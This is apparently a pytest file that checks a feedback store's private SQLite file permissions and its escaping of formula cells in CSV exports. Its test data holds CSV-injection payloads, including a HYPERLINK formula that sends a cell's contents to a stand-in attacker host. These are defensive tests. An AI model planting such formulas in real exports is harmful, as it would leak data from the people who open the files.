"""The feedback store's privacy and export safety: the SQLite file is private (0600, its new
folder 0700, looser existing files tightened) and the CSV export neutralises formula cells."""

from __future__ import annotations

import csv
import io
import os
import stat

import pytest

from qa.web.feedback import FEEDBACK_COLUMNS, FeedbackStore, csv_safe

pytestmark = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def loose_umask():
    """A umask that would leave new files world-readable, to show the modes are set explicitly."""
    old = os.umask(0o000)
    yield
    os.umask(old)


ANSWER = {"question": "Wat doet het wijkteam?", "answer": "Het helpt bewoners [1].", "abstained": False,
          "citations": [{"passage_id": "a.txt#p1"}]}


def test_new_database_and_its_folder_are_private(tmp_path, loose_umask):
    db = tmp_path / "nieuw" / "vraagbaak" / "feedback.sqlite3"
    store = FeedbackStore(db)
    store.add("up", ANSWER, "goed")
    store.log_question(ANSWER)
    assert mode(db) == 0o600
    assert mode(db.parent) == 0o700
    for sidecar in ("-journal", "-wal", "-shm"):
        extra = db.with_name(db.name + sidecar)
        assert not extra.exists() or mode(extra) & 0o077 == 0
    assert [r["comment"] for r in store.rows()] == ["goed"]


def test_an_existing_folder_keeps_its_mode(tmp_path, loose_umask):
    tmp_path.chmod(0o755)
    FeedbackStore(tmp_path / "fb.sqlite3").add("down", ANSWER)
    assert mode(tmp_path) == 0o755 and mode(tmp_path / "fb.sqlite3") == 0o600


def test_an_existing_database_with_a_loose_mode_is_tightened_when_opened(tmp_path):
    db = tmp_path / "fb.sqlite3"
    FeedbackStore(db).add("up", ANSWER)
    db.chmod(0o644)
    journal = db.with_name(db.name + "-journal")
    journal.write_bytes(b"")                 # a leftover journal with a loose mode
    journal.chmod(0o666)
    assert len(FeedbackStore(db).rows()) == 1   # reading opens it too
    assert mode(db) == 0o600
    assert not journal.exists() or mode(journal) == 0o600


FORMULAS = ['=HYPERLINK("https://evil.example/x?d="&A1,"Klik hier")', "+1", "-1+2", "@SUM(1)",
            "\t=1+1", "\r=1+1"]


def test_csv_export_prefixes_formula_cells_in_every_text_column(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    for text in FORMULAS:
        answer = {**ANSWER, "question": text, "answer": text, "citations": [{"passage_id": text}]}
        store.add("down", answer, comment=text if text.strip() == text else "x" + text)
        store.log_question(answer)
    store.add("up", ANSWER, "Prima antwoord - dank je")

    rows = list(csv.DictReader(io.StringIO(store.export_text())))
    for row, text in zip(rows, FORMULAS):
        assert row["question"] == row["answer"] == row["passage_ids"] == "'" + text
        if text.strip() == text:
            assert row["comment"] == "'" + text
    last = rows[-1]                            # ordinary cells are left alone
    assert (last["question"], last["answer"], last["comment"], last["passage_ids"]) == \
        (ANSWER["question"], ANSWER["answer"], "Prima antwoord - dank je", "a.txt#p1")
    assert [r["id"] for r in rows] == [str(n) for n in range(1, len(FORMULAS) + 2)]
    assert {r["rating"] for r in rows} == {"up", "down"} and {r["abstained"] for r in rows} == {"0"}

    out = tmp_path / "questions.csv"
    with out.open("w", encoding="utf-8", newline="") as fh:
        assert store.export_csv(fh, "questions") == len(FORMULAS)
    questions = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [q["question"] for q in questions] == ["'" + t for t in FORMULAS]
    assert all(not q[c].startswith(("=", "+", "-", "@", "\t", "\r")) for q in questions for c in q)


def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    question = 'Hallo\r=HYPERLINK("https://evil.example","x")\nen\r\n@SUM(1)'
    store.add("up", {**ANSWER, "question": question})
    text = store.export_text()
    header, rest = text.split("\r\n", 1)
    assert header == ",".join(FEEDBACK_COLUMNS)
    # the whole cell is quoted, line breaks and all, so it stays one cell of one row
    assert ',"Hallo\r=HYPERLINK(""https://evil.example"",""x"")\nen\r\n@SUM(1)",' in rest
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["question"] == question and row["comment"] == ""


def test_csv_safe_leaves_numbers_and_plain_text_alone():
    assert csv_safe(-1) == -1 and csv_safe(3) == 3 and csv_safe("") == ""
    assert csv_safe("a=b") == "a=b" and csv_safe(" =1") == " =1"
    assert csv_safe("-") == "'-" and csv_safe("@") == "'@"
